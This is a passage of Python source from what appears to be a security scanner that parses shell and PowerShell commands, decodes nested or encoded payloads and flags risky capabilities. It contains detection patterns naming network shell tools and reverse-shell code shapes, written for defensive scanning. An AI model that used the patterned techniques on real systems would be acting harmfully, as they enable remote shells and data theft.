"""Commands → findings with capabilities. One `_Run` per analyze_command/analyze_argv call; decoded
and nested command texts (`sh -c '…'`, `eval`, `echo … | base64 -d | sh`, PowerShell
-EncodedCommand) are analysed recursively in a `_Frame` that maps positions back into the file."""

from __future__ import annotations

import re
import shlex
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import PurePosixPath
from typing import TypeVar
from urllib.parse import urlsplit

from skillscan.analyzers.base import finding
from skillscan.analyzers.shell.capmap import Capmap, Program, Then, base_name, load_capmap, normalise, parse_options
from skillscan.analyzers.shell.decode import (
    FETCHERS,
    MAX_DECODED,
    Payload,
    first_url,
    prog_name,
    stdin_payload,
    stdout_payload,
    utf16_b64,
)
from skillscan.analyzers.shell.syntax import Cmd, Word, parse_script
from skillscan.lazyre import lazy
from skillscan.model import Capability, Channel, Confidence, Finding, Severity

PLACEHOLDER = lazy(r"(?<![<\w$])<([A-Za-z][A-Za-z0-9_ .:/|-]{0,60}[A-Za-z0-9_])>(?![>&(])")


def mask_placeholders(text: str) -> str:
    """Documentation placeholders (`--scope <team>`) would parse as redirections; keep them as words
    of the same length so positions do not move."""
    if "<" not in text:
        return text
    return PLACEHOLDER.sub(lambda m: "_" + m.group(1).replace(" ", "_") + "_", text)


MAX_DEPTH = 4  # nested command texts (sh -c inside eval inside a decoded payload …)
MAX_TOTAL_CHARS = 2 * 1024 * 1024  # all text analysed by one call, nested texts included
MAX_HITS = 5000
MAX_ARGV = 10_000
SNIPPET = 300
_T = TypeVar("_T")

NETCAT = {"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "telnet", "socat", "openssl", "pwncat"}
PS_IEX = {"iex", "invoke-expression"}
# PowerShell cmdlet aliases (not processes; their capabilities come from the map)
PS_ALIASES = {"iwr", "irm", "iex", "gci", "gc", "sc", "ac", "ls", "dir", "cat", "type", "cd", "sl", "echo", "write",
              "rm", "del", "ri", "cp", "copy", "mv", "move", "ni", "md", "mkdir", "saps", "start", "sleep", "select",
              "where", "foreach", "%", "?", "ft", "fl", "oh", "measure", "sort", "tee", "curl", "wget"}
EVAL = {"eval"}
SOURCE = {"source", "."}
WRITERS_LAST = {"cp", "mv", "install", "ln", "rsync", "copy", "copy-item", "move-item", "xcopy", "robocopy"}
WRITERS_ALL = {"tee", "set-content", "add-content", "out-file", "touch"}
RAW_IP = lazy(r"^\d{1,3}(\.\d{1,3}){3}$|^\[?[0-9a-f:]+:[0-9a-f:]*\]?$", re.IGNORECASE)
HOST_RE = lazy(r"^[a-z0-9]([a-z0-9-]*[a-z0-9])?(\.[a-z0-9]([a-z0-9-]*[a-z0-9])?)*$", re.IGNORECASE)


@dataclass(frozen=True)
class CommandContext:
    path: str  # package-relative file the command is in
    line: int = 1  # 1-based line of the command's first character in that file
    column: int = 1
    channel: Channel = Channel.CODE
    max_confidence: Confidence = Confidence.HIGH  # callers lower this for examples/reference prose
    source: str = "script"  # script | hook | mcp | install | load-time | fence | inline | code


@dataclass(frozen=True)
class _Frame:
    line: int
    column: int
    depth: int = 0
    dialect: str = "bash"  # bash | powershell | batch
    pin: tuple[int, int, str] | None = None  # decoded text: every finding goes to the command that decoded it
    decoded: str | None = None

    def at(self, row: int, col: int) -> tuple[int, int]:
        if self.pin is not None:
            return self.pin[0], self.pin[1]
        if row == 0:
            return self.line, self.column + col
        return self.line + row, col + 1


@dataclass
class _Hit:
    rule: str
    caps: list[Capability]
    message: str
    line: int
    column: int
    snippet: str
    severity: Severity | None = None
    confidence: Confidence | None = None
    decoded: str | None = None


@dataclass
class _Run:
    ctx: CommandContext
    capmap: Capmap
    hits: dict[tuple[str, int, int, str | None], _Hit] = field(default_factory=dict)
    budget: int = MAX_TOTAL_CHARS
    downloads: dict[str, str] = field(default_factory=dict)
    decoded_texts: list[tuple[int, str, str]] = field(default_factory=list)  # (line, dialect, text)
    decoded_files: dict[str, tuple[str, tuple[str, ...]]] = field(default_factory=dict)
    clones: dict[str, str] = field(default_factory=dict)  # directory → repository URL (git clone)
    literal_files: dict[str, tuple[str, int, int]] = field(default_factory=dict)  # path → (text, line, column)
    running: set[str] = field(default_factory=set)
    cwd: str | None = None

    # -- recording -----------------------------------------------------------------
    def add(self, frame: _Frame, cmd: Cmd, rule: str, caps: Sequence[Capability | str], message: str,
            severity: Severity | str | None = None, confidence: Confidence | str | None = None,
            decoded: str | None = None, row: int | None = None, col: int | None = None) -> None:
        if len(self.hits) >= MAX_HITS:
            return
        line, column = frame.at(cmd.row if row is None else row, cmd.col if col is None else col)
        snippet = frame.pin[2] if frame.pin is not None else (cmd.stmt or cmd.text)
        snippet = " ".join(snippet.split())[:SNIPPET]
        decoded = decoded if decoded is not None else frame.decoded
        key = (rule, line, column, decoded)
        parsed = [c if isinstance(c, Capability) else Capability.parse(c) for c in caps]
        sev = Severity.parse(severity) if isinstance(severity, str) else severity
        conf = Confidence.parse(confidence) if isinstance(confidence, str) else confidence
        old = self.hits.get(key)
        if old is None:
            self.hits[key] = _Hit(rule, parsed, message, line, column, snippet, sev, conf, decoded)
            return
        for c in parsed:
            if c not in old.caps:
                old.caps.append(c)
        if sev is not None and (old.severity is None or sev > old.severity):
            old.severity = sev
            old.message = message
        if conf is not None and old.confidence is not None and conf > old.confidence:
            old.confidence = conf

    def findings(self) -> list[Finding]:
        from skillscan.catalog import get_catalog

        catalog = get_catalog()
        out = []
        for h in self.hits.values():
            rule = catalog.rule(h.rule)
            conf = h.confidence if h.confidence is not None else rule.confidence
            conf = min(conf, self.ctx.max_confidence)
            out.append(finding(h.rule, h.message, self.ctx.path, h.line, h.column, snippet=h.snippet,
                               capabilities=sorted(set(h.caps), key=str), channel=self.ctx.channel,
                               confidence=conf, severity=h.severity,
                               decoded=h.decoded[:MAX_DECODED] if h.decoded else None))
        return out


# ---- helpers ---------------------------------------------------------------------------------


def host_of(url: str | None) -> str:
    if not url or url == "*":
        return "*"
    try:
        parts = urlsplit(url if "://" in url else "https://" + url)
        host = (parts.hostname or "").lower().rstrip(".")
    except ValueError:
        return "*"
    return host if host and (HOST_RE.match(host) or RAW_IP.match(host)) else "*"


def host_operand(value: str | None) -> str:
    """`user@host`, `ssh://user@host:22`, `host:path`, `host` → host, else *."""
    if not value or value.startswith("-") or "$" in value:
        return "*"
    v = value
    if "://" in v:
        return host_of(v)
    v = v.rsplit("@", 1)[-1]
    if v.startswith("["):
        v = v[1:].split("]", 1)[0]
    else:
        v = v.split(":", 1)[0].split("/", 1)[0]
    v = v.lower()
    if RAW_IP.match(v) or (HOST_RE.match(v) and ("." in v or v == "localhost" or "@" in value)):
        return v
    return "*"


def _matches_host(url: str, entries: Sequence[str]) -> bool:
    host = host_of(url)
    if host == "*":
        return False
    rest = url.split("://", 1)[-1].lower()
    for e in entries:
        if "/" in e:
            if rest.startswith(e) or rest.split("@", 1)[-1].startswith(e):
                return True
        elif host == e or host.endswith("." + e):
            return True
    return False


def path_scope(value: str | None) -> str:
    if value is None or value == "":
        return "*"
    v = value.replace("\\", "/")
    if "$" in v and not v.startswith(("$PKG", "$WORK", "$TMP", "$DATA")):
        return "*"
    if v.startswith(("~", "/", "$")):
        if v.startswith(("/tmp/", "/var/tmp/")) or v in ("/tmp", "/var/tmp"):
            return "$TMP" + v[v.index("tmp") + 3:]
        return v
    if re.match(r"^[A-Za-z]:/", v):
        return v
    v = v.removeprefix("./")
    return "$WORK/" + v if v else "$WORK"


_HOME_PREFIX = lazy(r"^(?:/home/[^/]+|/Users/[^/]+|/root|[A-Za-z]:/Users/[^/]+|%USERPROFILE%|\$env:USERPROFILE|"
                          r"\$HOME|\$\{HOME\})(?=/|$)", re.IGNORECASE)


_APPDATA = lazy(r"(?i)%APPDATA%|\$env:APPDATA")
_LOCALAPPDATA = lazy(r"(?i)%LOCALAPPDATA%|\$env:LOCALAPPDATA")


def home_path(value: str) -> str:
    v = value.replace("\\", "/")
    if "%" in v or "$" in v:
        v = _APPDATA.sub("~/AppData/Roaming", v)
        v = _LOCALAPPDATA.sub("~/AppData/Local", v)
    return _HOME_PREFIX.sub("~", v) if v[:1] in "/%$" or v[1:2] == ":" else v


def _fmt_pkg(eco: str, value: str) -> str | None:
    if not value or value.startswith(("-", ".", "/", "~", "$")) or value in (".",):
        return None
    if "://" in value or value.startswith("git+"):
        url = value.split("+", 1)[1] if value.startswith("git+") else value
        return "url:" + url
    if re.search(r"\.(txt|toml|cfg|lock|json|whl|tar\.gz|zip)$", value) and "/" in value:
        return None
    if eco == "pypi":
        value = re.sub(r"\[.*?\]", "", value)
        value = re.sub(r"\s*==\s*", "@", value)
    return value


PROGRAM_NAME = lazy(r"^\.?[A-Za-z0-9_][A-Za-z0-9_.+@-]*$")
HTTP_VERBS = {"GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "CONNECT", "TRACE"}
PROSE_WORD = lazy(r"^[A-Za-z][a-z']*[,.;:]?$")
NOT_PROGRAM_CHAR = lazy(r"[\s\"'{}\[\]<>]")


def _plausible_program(value: str, name: str, args: list[Word]) -> bool:
    """Reject argv0 that is not a program name: JSON keys, HTTP request lines, braces (Markdown
    fences of other languages fed in as shell)."""
    if not name or not PROGRAM_NAME.match(name) or name.isdigit():
        return False
    if NOT_PROGRAM_CHAR.search(value):
        return False
    return not (value in HTTP_VERBS and args and args[0].value and args[0].value.startswith(("/", "http")))


def _prose_like(words: list[Word], ctx: CommandContext) -> bool:
    """A sentence, not a command (`Run the tests before you push.`) — only outside script files."""
    if ctx.source == "script" or len(words) < 4:
        return False
    first = words[0].value or ""
    if not (first[:1].isupper() and first.isalpha() and not first.isupper()):
        return False
    rest = [w.value or "" for w in words[1:]]
    wordy = sum(1 for w in rest if PROSE_WORD.match(w) and w[:1].islower())
    return wordy >= max(3, (len(rest) * 3) // 4) and not any(w.startswith("-") or "/" in w for w in rest)


# ---- the analysis ------------------------------------------------------------------------------


class _Analyzer:
    def __init__(self, run: _Run) -> None:
        self.run = run
        self.cm = run.capmap

    # entry points
    def text(self, text: str, frame: _Frame) -> None:
        if frame.depth > MAX_DEPTH or self.run.budget <= 0 or not text.strip():
            return
        text = text[: self.run.budget]
        self.run.budget -= len(text)
        if frame.dialect == "bash":
            if self.run.ctx.source != "script":
                text = mask_placeholders(text)
            cmds = parse_script(text).commands
        else:
            from skillscan.analyzers.shell.winshell import parse_windows

            cmds = parse_windows(text, frame.dialect)
        for cmd in cmds:
            if len(self.run.hits) >= MAX_HITS:
                break
            self.command(cmd, frame)

    # one command
    def command(self, cmd: Cmd, frame: _Frame) -> None:
        self._redirects(cmd, frame)
        self._env_reads(cmd, frame)
        words = cmd.words[:MAX_ARGV]
        if not words:
            return
        i = self._unwrap(cmd, words, frame)
        if i >= len(words):
            return
        pw = words[i]
        args = words[i + 1:]
        if pw.value is None or not pw.value.strip():
            self._dynamic_program(cmd, pw, frame)
            return
        name = prog_name(pw.value)
        if not _plausible_program(pw.value, name, args) or _prose_like(words[i:], self.run.ctx):
            return
        key = normalise(name)
        if frame.dialect != "bash":
            key = key.lower()
        if cmd.background:
            self.run.add(frame, cmd, "shell-background-process", ["proc.daemon"],
                         f"`{name}` is started in the background (`&`)")
        if key in EVAL or (frame.dialect == "powershell" and key in PS_IEX):
            self._eval(cmd, name, args, frame)
            return
        if key in SOURCE:
            self._source(cmd, args, frame)
            return
        if key not in self.cm.builtins and not (frame.dialect == "powershell" and
                                                 (re.fullmatch(r"[a-z]+-[a-z]+", key) or key in PS_ALIASES)):
            self.run.add(frame, cmd, "shell-exec", [Capability("proc.exec", name)], f"runs `{name}`")
        self._downloaded_exec(cmd, pw, frame)
        values = [w.value for w in args]
        prog = self.cm.lookup(key) or self.cm.lookup(base_name(key))
        if prog is not None:
            self._program(cmd, name, prog, args, values, frame)
        bkey = base_name(key)
        if key in self.cm.shells or bkey in self.cm.shells:
            self._shell(cmd, name, args, frame)
        elif key in self.cm.interpreters or bkey in self.cm.interpreters:
            self._interpreter(cmd, name, self.cm.interpreters.get(key) or self.cm.interpreters[bkey], args, frame)
        if key in FETCHERS or key in ("certutil", "bitsadmin"):
            self._record_download(key, args, values)
        self._track_outputs(cmd, key, values, frame)
        if key == "crontab":
            self._cron_lines(cmd, frame)
        self._track_git_cd(key, values)
        if key not in self.cm.inert:
            self._paths(cmd, key, args, values, frame)
            self._miner_args(cmd, name, values, frame)
        self._pipeline_shell(cmd, key, args, frame)

    # wrappers: sudo, nohup, env, timeout … report themselves, then the wrapped command is analysed
    def _unwrap(self, cmd: Cmd, words: list[Word], frame: _Frame) -> int:
        i = 0
        for _ in range(16):
            if i >= len(words) or words[i].value is None:
                return i
            name = prog_name(words[i].value)
            w = self.cm.wrappers.get(normalise(name))
            if w is None:
                return i
            if normalise(name) == "env" and all(x.value is not None and (x.value.startswith("-") or "=" in x.value)
                                                for x in words[i + 1:]):
                self.run.add(frame, cmd, "shell-env-read", ["env.read[*]"], "`env` prints the whole environment")
            if name != "exec":
                self.run.add(frame, cmd, "shell-exec", [Capability("proc.exec", name)], f"runs `{name}`")
            if w.base is not None:
                self._then(cmd, frame, w.base, name, {}, [], f"`{name}` runs a command")
            i += 1
            skip = w.skip_operands
            while i < len(words):
                v = words[i].value
                if v is None:
                    break
                if v.startswith("-") and v != "-":
                    i += 2 if v in w.options_with_value else 1
                    continue
                if w.assignments and re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", v):
                    i += 1
                    continue
                if skip:
                    skip -= 1
                    i += 1
                    continue
                break
        return i

    def _dynamic_program(self, cmd: Cmd, pw: Word, frame: _Frame) -> None:
        if pw.payload is not None and (pw.payload.url or pw.payload.decoders):
            self._payload(cmd, pw.payload, frame, "bash", "a command substitution used as the command")
            return
        if pw.value is None and pw.raw.startswith(("$(", "`", '"$(')):
            self.run.add(frame, cmd, "shell-dynamic-command", ["proc.shell"],
                         "the program to run is computed at run time")

    # program entries from the data map
    def _program(self, cmd: Cmd, name: str, prog: Program, args: list[Word], values: list[str | None],
                 frame: _Frame) -> None:
        windows = frame.dialect != "bash" or any(o.startswith("/") for w in prog.when for o in w.any_flag)
        parsed = parse_options(values, prog.options_with_value, windows=windows)
        flags = {f for f, _ in parsed.flags}
        flags_l = {f.lower() for f in flags}
        operands = [values[i] for i in parsed.operands]
        url = None
        host = "*"
        if prog.hosts == "url":
            url = first_url([v for _, v in parsed.flags] + operands)
            host = host_of(url) if url else (host_operand(operands[0]) if operands and prog.hosts == "url"
                                             and operands[0] and "." in operands[0] and "/" not in operands[0]
                                             else "*")
        elif prog.hosts == "positional":
            host = host_operand(operands[0]) if operands else "*"
        elif prog.hosts == "remote-path":
            for v in operands:
                if v and re.match(r"^([^/@:\s]+@)?[A-Za-z0-9][A-Za-z0-9.-]+:(?!//)", v) and not re.match(r"^[A-Za-z]:", v):
                    host = host_operand(v)
                    break
        fill = {"host": host, "url": url or "*", "argv0": name, "arg1": next((o for o in operands if o), "*")}
        lowered_ops = [o.lower() if o else "" for o in operands]
        if prog.base is not None:
            self._then(cmd, frame, prog.base, name, fill, self._packages(prog.base, name, operands, 0),
                       self._message(prog.base.rule, name, fill))
        for w in prog.when:
            sub_len = 0
            if w.subcommand:
                match = next((s for s in w.subcommand if tuple(lowered_ops[: len(s)]) == s or
                              (len(s) == 1 and s[0].startswith("-") and s[0] in flags)), None)
                if match is None:
                    continue
                sub_len = len(match) if not match[0].startswith("-") else 0
            if w.any_flag and not (w.any_flag & flags or (windows and {f.lower() for f in w.any_flag} & flags_l)):
                continue
            if w.no_flag and (w.no_flag & flags):
                continue
            if w.max_operands is not None and len([o for o in operands if o is not None]) > w.max_operands:
                continue
            if w.arg_regex is not None:
                hit = next((v for v in values if v is not None and w.arg_regex.search(v)), None)
                if hit is None:
                    continue
                fill = dict(fill, arg1=hit)
            pkgs = self._packages(w.then, name, operands, sub_len)
            self._then(cmd, frame, w.then, name, fill, pkgs, self._message(w.then.rule, name, fill))
        uploads = {"-d", "--data", "--data-binary", "--data-raw", "-F", "--form", "-T", "--upload-file", "--json",
                   "--post-data", "--post-file"}
        if prog.hosts == "url" and url and flags & uploads and _matches_host(url, self.cm.exfil_hosts):
            self.run.add(frame, cmd, "shell-network-upload", [Capability("net.egress", host)],
                         f"`{name}` sends data to {host}, a webhook/paste/tunnel host", severity=Severity.HIGH)

    @staticmethod
    def _packages(then: Then, name: str, operands: list[str | None], sub_len: int) -> list[str]:
        if not then.packages:
            return []
        rest = [o for o in operands[sub_len:] if o]
        if then.packages == "first":
            rest = rest[:1]
        return rest

    def _then(self, cmd: Cmd, frame: _Frame, then: Then, name: str, fill: dict[str, str], pkgs: list[str],
              message: str) -> None:
        caps: list[str] = []
        for template in then.capabilities:
            if "{pkg}" in template:
                eco = template.split("[", 1)[1].split(":", 1)[0] if "[" in template else ""
                eco = {"apt-get": "apt", "aptitude": "apt"}.get(eco.replace("{argv0}", name),
                                                                  eco.replace("{argv0}", name))
                formatted = [p for p in (_fmt_pkg(eco, v) for v in pkgs) if p]
                for p in formatted or ["*"]:
                    if p.startswith("url:"):  # installed from a URL: no registry, no pinning, build code runs
                        caps += [f"pkg.install[{p}]", f"code.remote[{p[4:]}]", f"net.egress[{host_of(p[4:])}]"]
                        continue
                    caps.append(template.replace("{argv0}", eco).replace("{pkg}", p))
                continue
            out = template
            for k, v in fill.items():
                out = out.replace("{" + k + "}", v)
            caps.append(out)
        try:
            parsed = [Capability.parse(c) for c in caps]
        except ValueError:
            parsed = []
        severity = then.severity
        if severity is None and any(c.kind == "code.remote" for c in parsed) and then.rule.startswith("shell-package"):
            severity = "medium"  # a package installed straight from a URL: unpinned code that runs at install
        self.run.add(frame, cmd, then.rule, parsed, message, severity=severity, confidence=then.confidence)

    @staticmethod
    def _message(rule: str, name: str, fill: dict[str, str]) -> str:
        host = fill.get("host", "*")
        return {
            "shell-network-egress": f"`{name}` connects to {host if host != '*' else 'a network host'}",
            "shell-network-upload": f"`{name}` sends data to {host if host != '*' else 'a network host'}",
            "shell-network-listen": f"`{name}` listens for network connections",
            "shell-network-scan": f"`{name}` scans the network",
            "shell-reverse-shell": f"`{name}` hands a shell to a network peer ({host})",
            "shell-tunnel": f"`{name}` opens a network tunnel",
            "shell-ssh-tunnel": f"`ssh` opens a port-forwarding tunnel via {host}",
            "shell-crypto-miner": f"`{name}` is a cryptocurrency miner",
            "shell-persistence": f"`{name}` installs something that survives the session",
            "shell-privilege-escalation": f"`{name}` runs with elevated privileges",
            "shell-background-process": f"`{name}` keeps a process running in the background",
            "shell-package-install": f"`{name}` installs packages",
            "shell-package-run": f"`{name}` downloads and runs a package",
            "shell-credential-store-read": f"`{name}` reads the OS credential store",
            "shell-gatekeeper-bypass": f"`{name}` disables an OS protection for downloaded code",
            "shell-password-archive": f"`{name}` extracts a password-protected archive",
            "shell-destructive-delete": f"`{name}` destroys {fill.get('arg1', 'data')}",
            "shell-gpu-use": f"`{name}` uses the GPU",
        }.get(rule, f"`{name}`: {rule}")

    # shells: sh -c '…', sh file, … | sh, bash <(curl …)
    def _shell(self, cmd: Cmd, name: str, args: list[Word], frame: _Frame) -> None:
        values = [w.value for w in args]
        for idx, v in enumerate(values):
            if v is not None and (v == "-c" or re.fullmatch(r"-[a-zA-Z]*c[a-zA-Z]*", v)) and idx + 1 < len(args):
                self._code_word(cmd, args[idx + 1], "bash", f"`{name} -c`", frame)
                return
        stdin_mode = any(v is not None and re.fullmatch(r"-[a-zA-Z]*s[a-zA-Z]*", v) for v in values)
        operand = None
        for w in args:
            if stdin_mode:
                break
            if w.value == "--":
                continue
            if w.value is None or not w.value.startswith(("-", "+")):
                operand = w
                break
        if operand is not None:
            if operand.procsub or operand.payload is not None:
                if operand.payload is not None:
                    self._payload(cmd, operand.payload, frame, "bash", f"`{name} <(…)`")
                return
            if operand.value is not None:
                self._run_file(cmd, operand.value, frame, f"`{name}`")
            return
        payload = stdin_payload(cmd)
        if payload is not None:
            self._payload(cmd, payload, frame, "bash", f"`… | {name}`")

    def _interpreter(self, cmd: Cmd, name: str, it: object, args: list[Word], frame: _Frame) -> None:
        from skillscan.analyzers.shell.capmap import Interpreter

        assert isinstance(it, Interpreter)
        key = base_name(normalise(name))
        dialect = "powershell" if key in ("powershell", "pwsh") else "batch" if key == "cmd" else None
        values = [w.value for w in args]
        for idx, v in enumerate(values):
            if v is None:
                continue
            vl = v.lower()
            if it.module and v == it.module and idx + 1 < len(args):
                # python -m pip install … → analysed as `pip install …`
                sub = Cmd(words=args[idx + 1:], row=cmd.row, col=cmd.col, text=cmd.text, upstream=cmd.upstream,
                          redirects=cmd.redirects)
                if args[idx + 1].value and args[idx + 1].value not in ("http.server",):
                    self.command(sub, frame)
                return
            if vl in it.encoded and idx + 1 < len(args):
                blob = args[idx + 1].value
                text = utf16_b64(blob) if blob else None
                if text:
                    self._decoded(cmd, text, ("base64 utf-16le",), frame, "powershell", f"`{name} -EncodedCommand`")
                return
            if vl in it.inline and idx + 1 < len(args):
                code_word = args[idx + 1]
                if dialect is not None:
                    rest = args[idx + 1:]
                    if dialect == "batch" or len(rest) > 1:
                        joined = " ".join(w.value or "" for w in rest) if all(w.value is not None for w in rest) \
                            else None
                        code_word = Word(joined, " ".join(w.raw for w in rest), rest[0].row, rest[0].col,
                                         rest[0].payload)
                    self._code_word(cmd, code_word, dialect, f"`{name} {v}`", frame)
                else:
                    self.run.add(frame, cmd, "shell-dynamic-command", ["code.dynamic[eval]"],
                                 f"`{name} {v}` runs inline code")
                    if code_word.payload is not None and (code_word.payload.url or code_word.payload.decoders):
                        self._payload(cmd, code_word.payload, frame, None, f"`{name} {v}`")
                    elif code_word.value:
                        self._inline_program(cmd, name, code_word.value, frame)
                return
            if dialect == "powershell" and not vl.startswith("-") and idx == 0:
                break
            if dialect is None and not v.startswith("-"):
                operand = args[idx]
                if operand.payload is not None:
                    self._payload(cmd, operand.payload, frame, None, f"`{name} <(…)`")
                else:
                    self._run_file(cmd, v, frame, f"`{name}`", dialect="python")
                return
        if dialect is None:
            payload = stdin_payload(cmd)
            if payload is not None and (payload.url or payload.decoders or payload.text):
                self.run.add(frame, cmd, "shell-dynamic-command", ["code.dynamic[eval]"],
                             f"`{name}` runs code from its standard input")
                if payload.url or payload.decoders:
                    self._payload(cmd, payload, frame, None, f"`… | {name}`")
                elif payload.text:
                    self._inline_program(cmd, name, payload.text, frame)

    _REVSHELL_CODE = lazy(
        r"(?is)(socket.{0,400}(subprocess|pty\.spawn|os\.dup2|/bin/(ba)?sh|exec\s*\()|"
        r"fsockopen.{0,200}(exec|system|passthru|shell_exec|proc_open|/bin/sh)|"
        r"TCPSocket\.(new|open).{0,200}(exec|spawn|system|/bin/sh)|"
        r"net\.(connect|Socket).{0,300}(child_process|spawn\(|/bin/sh)|"
        r"IO::Socket::INET.{0,300}(exec|system|/bin/sh)|"
        r"Net\.Sockets\.TCPClient.{0,400}(iex|Invoke-Expression|GetStream))")

    _EXEC_LITERAL = lazy(
        r"""(?:\b(?:exec|execSync|spawnSync|system|popen|shell_exec|passthru|check_output|check_call|getoutput|"""
        r"""getstatusoutput|run|call|Popen|proc_open)\s*\(\s*(?:\[\s*)?|`)(['"`])((?:(?!\1)[^\\]|\\.){3,2000})\1?""")

    _EXEC_LIST = lazy(r"\b(?:run|call|Popen|check_output|check_call|spawn|spawnSync|execFile|execFileSync|"
                            r"execv|execvp|create_subprocess_exec)\s*\(\s*\[([^\]]{1,2000})\]")

    def _inline_program(self, cmd: Cmd, name: str, code: str, frame: _Frame) -> None:
        """Interpreter inline code (`python -c`, `node -e` …): reverse-shell shapes, URLs, and string
        literals handed to exec/system/subprocess, which are shell commands analysed in turn."""
        found: list[tuple[int, str]] = []
        for m in list(self._EXEC_LITERAL.finditer(code[:20000]))[:16]:
            if " " in m.group(2) or "|" in m.group(2):
                found.append((m.start(), m.group(2)))
        for m in list(self._EXEC_LIST.finditer(code[:20000]))[:16]:
            items = [a or b for a, b in re.findall(r"'((?:[^'\\]|\\.)*)'|\"((?:[^\"\\]|\\.)*)\"", m.group(1))]
            if items and "," in m.group(1):
                found.append((m.start(), " ".join(shlex.quote(i) for i in items)))
        pin = frame.pin or (*frame.at(cmd.row, cmd.col), cmd.stmt or cmd.text)
        for _, literal in sorted(found)[:16]:
            self.text(literal, _Frame(frame.line, frame.column, frame.depth + 1, "bash", pin, frame.decoded))
        if self._REVSHELL_CODE.search(code[:20000]):
            self.run.add(frame, cmd, "shell-reverse-shell", ["proc.shell", "net.egress[*]"],
                         f"`{name}` inline code connects a socket to a shell")
        for url in re.findall(r"https?://[^\s'\"<>)]+", code[:20000])[:8]:
            self.run.add(frame, cmd, "shell-network-egress", [Capability("net.egress", host_of(url))],
                         f"`{name}` inline code contacts {host_of(url)}")

    # eval / iex / source
    def _eval(self, cmd: Cmd, name: str, args: list[Word], frame: _Frame) -> None:
        if not args:
            payload = stdin_payload(cmd) if frame.dialect == "powershell" else None
            if payload is not None:
                self._payload(cmd, payload, frame, frame.dialect, f"`… | {name}`")
            return
        joined_value = " ".join(w.value for w in args if w.value is not None) \
            if all(w.value is not None for w in args) else None
        payload = next((w.payload for w in args if w.payload is not None), None)
        word = Word(joined_value, " ".join(w.raw for w in args), args[0].row, args[0].col, payload)
        self._code_word(cmd, word, frame.dialect, f"`{name}`", frame, is_eval=True)

    def _source(self, cmd: Cmd, args: list[Word], frame: _Frame) -> None:
        if not args:
            return
        w = args[0]
        if w.payload is not None:
            self._payload(cmd, w.payload, frame, "bash", "`source <(…)`")
        elif w.value:
            self._run_file(cmd, w.value, frame, "`source`")

    def _code_word(self, cmd: Cmd, word: Word, dialect: str, how: str, frame: _Frame, is_eval: bool = False) -> None:
        pl = word.payload
        if pl is not None and (pl.url or pl.decoders):
            self._payload(cmd, pl, frame, dialect, how)
            return
        if word.value is None:
            caps = ["proc.shell"] + (["code.dynamic[eval]"] if is_eval else [])
            self.run.add(frame, cmd, "shell-dynamic-command", caps, f"{how} runs a command built at run time")
            return
        quote = 2 if word.raw.startswith("$'") else 1 if word.raw[:1] in "'\"" else 0
        line, column = frame.at(word.row, word.col + quote)
        self.text(word.value, _Frame(line, column, frame.depth + 1, dialect, frame.pin, frame.decoded))

    def _payload(self, cmd: Cmd, pl: Payload, frame: _Frame, dialect: str | None, how: str) -> None:
        if pl.url:
            self._remote(cmd, pl.url, frame, f"{how} runs code fetched from {pl.url}")
        if pl.decoders and pl.text:
            self._decoded(cmd, pl.text, pl.decoders, frame, dialect, how)
        elif pl.text and not pl.url and dialect is not None:
            if pl.row is not None and frame.pin is None:
                line, column = frame.at(pl.row, pl.col)
                self.text(pl.text, _Frame(line, column, frame.depth + 1, dialect))
            else:
                self.text(pl.text, _Frame(frame.line, frame.column, frame.depth + 1, dialect,
                                          frame.pin or (*frame.at(cmd.row, cmd.col), cmd.stmt or cmd.text),
                                          frame.decoded))

    def _decoded(self, cmd: Cmd, text: str, decoders: tuple[str, ...], frame: _Frame, dialect: str | None,
                 how: str) -> None:
        shown = text[:MAX_DECODED]
        self.run.add(frame, cmd, "shell-decoded-payload-exec", ["proc.shell"],
                     f"{how} runs a hidden command decoded with {' | '.join(dict.fromkeys(decoders))}",
                     decoded=shown)
        if dialect is None:
            self._inline_program(cmd, "decoded code", text, frame)
            return
        pin = frame.pin or (*frame.at(cmd.row, cmd.col), cmd.stmt or cmd.text)
        if len(self.run.decoded_texts) < 16:
            self.run.decoded_texts.append((pin[0], dialect, shown))
        self.text(text, _Frame(frame.line, frame.column, frame.depth + 1, dialect, pin, shown))

    # remote code
    def _remote(self, cmd: Cmd, url: str, frame: _Frame, message: str, download: bool = False) -> None:
        host = host_of(url)
        caps = [Capability("code.remote", url if url != "*" else "*"), Capability("net.egress", host)]
        scheme = url.split("://", 1)[0].lower() if "://" in url else ""
        netloc = urlsplit(url).netloc if "://" in url else ""
        odd_port = bool(re.search(r":\d{2,5}$", netloc)) and not netloc.endswith(":443")
        untrusted = host != "*" and bool(RAW_IP.match(host) or _matches_host(url, self.cm.untrusted_hosts)
                                         or scheme == "http" or odd_port)
        if untrusted:
            self.run.add(frame, cmd, "remote-code-untrusted-host", caps,
                         message + " (raw IP, plain HTTP, paste, tunnel or shortener host)")
            return
        rule = "remote-code-download-exec" if download else "remote-code-pipe-to-shell"
        vendor = host != "*" and (_matches_host(url, self.cm.vendor_installers) or
                                  bool(self.cm.vendor_host_regex and self.cm.vendor_host_regex.match(host)))
        self.run.add(frame, cmd, rule, caps, message + (" (a vendor install script)" if vendor else ""),
                     severity=None if vendor else Severity.HIGH)

    def _record_download(self, key: str, args: list[Word], values: list[str | None]) -> None:
        url = first_url(values)
        if not url:
            return
        target = None
        for i, v in enumerate(values):
            if v is None:
                continue
            if v in ("-o", "--output", "-O", "--output-document", "-OutFile", "-outfile") and i + 1 < len(values):
                nxt = values[i + 1]
                if v == "-O" and key == "curl":
                    target = PurePosixPath(urlsplit(url).path).name
                    continue
                target = nxt
            elif v.startswith(("--output=", "--output-document=")):
                target = v.split("=", 1)[1]
            elif re.fullmatch(r"-[a-zA-Z]*o", v) and i + 1 < len(values) and key == "curl":
                target = values[i + 1]
            elif re.fullmatch(r"-[a-zA-Z]*O", v) and key == "curl":
                target = PurePosixPath(urlsplit(url).path).name
            elif re.fullmatch(r"-[a-zA-Z]*O", v) and key == "wget" and i + 1 < len(values):
                target = values[i + 1]
        if target is None and key in ("certutil", "bitsadmin"):
            rest = [v for v in values if v and not v.startswith(("-", "/")) and v != url]
            target = rest[-1] if rest else None
        if target is None and key in ("wget", "wget2"):
            target = PurePosixPath(urlsplit(url).path).name
        if target and target != "-" and len(self.run.downloads) < 256:
            self.run.downloads[PurePosixPath(target.replace("\\", "/")).name] = url
            self.run.downloads[target] = url

    def _is_download(self, value: str) -> str | None:
        if not self.run.downloads or not value:
            return None
